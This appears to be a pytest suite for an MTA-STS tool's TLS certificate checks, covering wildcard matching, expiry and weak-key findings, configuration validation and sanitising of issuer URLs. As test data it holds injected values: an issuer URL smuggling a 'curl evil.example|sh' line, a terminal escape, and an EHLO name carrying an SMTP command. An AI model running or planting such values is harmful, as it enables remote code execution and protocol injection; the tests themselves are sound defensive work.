"""Certificates: names as OpenSSL matches them, and each reason told apart."""

import asyncio
import datetime as dt
import io
import ssl

import dns.resolver
import pytest
import trustme
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa
from cryptography.x509.oid import AuthorityInformationAccessOID, NameOID

from mtasts_analysis.checks.certificates import (
    Certificate,
    Presented,
    judge,
    names_match,
    read_certificate,
)
from mtasts_analysis.checks.config import CheckConfig
from mtasts_analysis.checks.dns import Asker
from mtasts_analysis.checks.wire import RefusedAddressError, Trust, certificate_fault, connect
from mtasts_analysis.errors import InputError

NOW = dt.datetime(2026, 1, 1, tzinfo=dt.UTC)

NAMES = [
    ("mx.example.com", "mx.example.com", True, "equal"),
    ("MX.Example.com", "mx.example.COM.", True, "case, a trailing dot"),
    ("*.example.com", "mx.example.com", True, "one label"),
    ("*.example.com", "a.b.example.com", False, "two labels"),
    ("*.example.com", "example.com", False, "no label"),
    ("m*.example.com", "mx.example.com", False, "part of a label"),
    ("*.com", "example.com", False, "before one label only"),
    ("mx.*.com", "mx.example.com", False, "not the first label"),
    ("", "mx.example.com", False, "nothing"),
]


@pytest.mark.parametrize(("name", "host", "matches", "why"), NAMES)
def test_names(name, host, matches, why):
    assert names_match([name], host) == matches, why


def certificate(**changed):
    given = {
        "subject": "CN=mx", "issuer": "CN=ca", "names": ("mx.d.example",), "not_before": NOW - dt.timedelta(10),
        "not_after": NOW + dt.timedelta(90), "key": "EC secp256r1", "signature": "sha256", "serial": "1", "sha256": "x",
    }  # fmt: skip
    return Certificate(**given | changed)


def codes(*chain, **how):
    how = {"verified": True, "trusted": True} | how
    shown = Presented("TLSv1.3", "c", chain, **how)
    return [f.code for f in judge(shown, "mx.d.example", "s", now=NOW)]


@pytest.mark.parametrize(
    ("chain", "how", "want"),
    [
        ([certificate()], {}, []),
        ([certificate(not_after=NOW + dt.timedelta(30))], {}, []),
        ([certificate(not_after=NOW + dt.timedelta(29, hours=23))], {}, ["certificate-expires-soon"]),
        ([certificate(not_after=NOW - dt.timedelta(hours=1))], {"verified": False, "verify_code": 10}, ["certificate-expired"]),
        ([certificate(not_before=NOW + dt.timedelta(1))], {"verified": False, "verify_code": 9}, ["certificate-not-yet-valid"]),
        ([certificate(key="RSA 1024")], {}, ["certificate-weak"]),
        ([certificate(key="RSA 2048")], {}, []),
        ([certificate(key="EC secp192r1")], {}, ["certificate-weak"]),
        ([certificate(key="EC secp224r1")], {}, []),
        ([certificate(signature="sha1")], {}, ["certificate-weak"]),
        ([certificate(key="RSA 512")], {"verified": False, "trusted": None, "verify_code": 66}, ["certificate-weak"]),
        ([certificate(), certificate(subject="CN=ca", issuer="CN=root", not_after=NOW - dt.timedelta(1))], {"verified": False, "verify_code": 10}, ["certificate-expired"]),
        ([certificate(issuer="CN=mx")], {"verified": False, "trusted": None, "verify_code": 18}, ["certificate-not-trusted"]),
        ([certificate()], {"verified": False, "trusted": None, "verify_code": 20}, ["certificate-not-trusted"]),
        ([certificate(issuer_url="http://ca")], {"verified": False, "trusted": None, "verify_code": 20}, ["certificate-chain-incomplete"]),
        ([certificate(issuer_url="http://ca"), certificate(subject="CN=ca", issuer="CN=ca")], {"verified": False, "trusted": None, "verify_code": 19}, ["certificate-not-trusted"]),
        ([certificate()], {"verified": False, "trusted": None, "verify_code": 23}, ["certificate-invalid"]),
        # Issuers that lead in a circle: looking for the top ends.
        ([certificate(issuer="CN=a"), certificate(subject="CN=a", issuer="CN=b"), certificate(subject="CN=b", issuer="CN=a")], {"verified": False, "trusted": None, "verify_code": 20}, ["certificate-not-trusted"]),
        ([], {"verified": False, "trusted": None, "verify_code": 10, "said": "expired"}, ["certificate-invalid"]),
        ([], {}, []),  # OpenSSL took it; that it could not be shown is no fault of it
    ],
)  # fmt: skip
def test_judge(chain, how, want):
    assert codes(*chain, **how) == want


def test_what_is_refused_is_never_silent():
    """Whatever code OpenSSL gives, a certificate that does not verify has a finding."""
    for code in range(1, 100):
        assert codes(certificate(), verified=False, trusted=None, verify_code=code)


def test_a_connection_is_judged_where_it_is_made():
    """After resolution and at connect time: this is the one door."""
    with pytest.raises(RefusedAddressError, match=r"127\.0\.0\.1 is not a public address"):
        asyncio.run(connect("127.0.0.1", 25, CheckConfig()))


def test_contexts():
    trust = Trust.of(CheckConfig())
    assert trust.strict.verify_mode == ssl.CERT_REQUIRED and trust.strict.check_hostname
    assert not trust.strict.hostname_checks_common_name
    assert trust.strict.minimum_version == ssl.TLSVersion.TLSv1_2


@pytest.mark.parametrize(
    "wrong",
    [
        {"resolvers": ("dns.example",)},
        {"allow_networks": ("10.0.0.1/8",)},
        {"smtp_port": 0},
        {"https_port": 70_000},
        {"sockets": 0},
        {"dns_timeout": -1},
        {"expiry_days": -1},
        {"ehlo_name": "a b"},
        {"ehlo_name": "a\r\nMAIL FROM:<>"},
    ],
)
def test_a_configuration_that_cannot_serve(wrong):
    with pytest.raises(InputError, match=next(iter(wrong))):
        CheckConfig(**wrong)


def test_no_such_file_of_authorities(tmp_path):
    with pytest.raises(InputError, match="ca_file"):
        Trust.of(CheckConfig(ca_file=str(tmp_path / "none.pem")))


@pytest.mark.parametrize(
    ("reason", "fault"),
    [
        ("EE_KEY_TOO_SMALL", True),
        ("CA_MD_TOO_WEAK", True),
        ("DH_KEY_TOO_SMALL", False),  # the key exchange: nothing is wrong with the certificate
        ("UNSUPPORTED_PROTOCOL", False),
    ],
)
def test_what_is_the_certificate_s_fault(reason, fault):
    error = ssl.SSLError(1, "said")
    error.reason = reason
    assert certificate_fault(error) == fault


def test_extensions_given_twice_are_a_value_error():
    """OpenSSL lets it pass; the library that reads it raises an exception of its own kind."""
    leaf = trustme.CA().issue_cert("mx.d.example").cert_chain_pems[0].bytes()
    raw = x509.load_pem_x509_certificate(leaf).public_bytes(serialization.Encoding.DER)
    san, ski = bytes.fromhex("0603551d11"), bytes.fromhex("0603551d23")
    assert raw.count(san) == 1 and raw.count(ski) == 1
    with pytest.raises(ValueError, match="cannot be read"):
        read_certificate(raw.replace(ski, san))


@pytest.mark.parametrize(
    ("key", "said"),
    [
        (rsa.generate_private_key(65537, 2048), "RSA 2048"),
        (ec.generate_private_key(ec.SECP384R1()), "EC secp384r1"),
        (ed25519.Ed25519PrivateKey.generate(), "Ed25519"),
    ],
    ids=["rsa", "ec", "ed25519"],
)
def test_each_kind_of_key_is_named(key, said):
    """What a table of certificates shows, and by what a weak key is told."""
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "mx")])
    made = (
        x509.CertificateBuilder(name, name, key.public_key(), 1, NOW, NOW + dt.timedelta(1))
        .sign(key, None if said == "Ed25519" else hashes.SHA256())
        .public_bytes(serialization.Encoding.DER)
    )
    assert read_certificate(made).key == said


URLS = [
    (["http://ca.example/ca.der"], "http://ca.example/ca.der", "as public CAs name it"),
    (["http://a\ncurl evil.example|sh", "http://b"], "http://b", "a line of its own among what is to be copied"),
    (["http://a\x1b[2J"], "", "a terminal's escape"),
    (["http://a b"], "", "no URL has a space"),
    (["http://" + "a" * 60_000], "", "nor is one so long"),
]  # fmt: skip


@pytest.mark.parametrize(("urls", "kept", "why"), URLS)
def test_where_an_issuer_is_to_be_had(urls, kept, why):
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "mx")])
    key = ec.generate_private_key(ec.SECP256R1())
    access = [
        x509.AccessDescription(
            AuthorityInformationAccessOID.CA_ISSUERS, x509.UniformResourceIdentifier(url)
        )
        for url in urls
    ]
    made = (
        x509.CertificateBuilder(name, name, key.public_key(), 1, NOW, NOW + dt.timedelta(1))
        .add_extension(x509.AuthorityInformationAccess(access), critical=False)
        .sign(key, hashes.SHA256())
        .public_bytes(serialization.Encoding.DER)
    )
    assert read_certificate(made).issuer_url == kept, why


def test_an_openssl_without_an_old_version_does_not_ask_for_it(monkeypatch):
    monkeypatch.setattr(ssl, "HAS_TLSv1", False)
    assert set(Trust.of(CheckConfig()).one) == {"TLSv1.1", "TLSv1.2", "TLSv1.3"}


def test_a_system_without_authorities_says_so(monkeypatch, tmp_path):
    """Else every certificate of the world would be told to be untrusted."""
    monkeypatch.setenv("SSL_CERT_FILE", str(tmp_path / "none.pem"))
    monkeypatch.setenv("SSL_CERT_DIR", str(tmp_path / "none"))
    with pytest.raises(InputError, match="install the package ca-certificates"):
        Trust.of(CheckConfig())


def test_the_system_s_resolver_is_asked_where_none_is_named(monkeypatch):
    read = dns.resolver.BaseResolver.read_resolv_conf
    conf = io.StringIO("nameserver 127.0.0.53\n")
    monkeypatch.setattr(dns.resolver.BaseResolver, "read_resolv_conf", lambda r, _: read(r, conf))
    asker = Asker(CheckConfig(dns_timeout=3), asyncio.Semaphore(1))
    assert asker._resolver.nameservers == ["127.0.0.53"] and asker._resolver.lifetime == 3
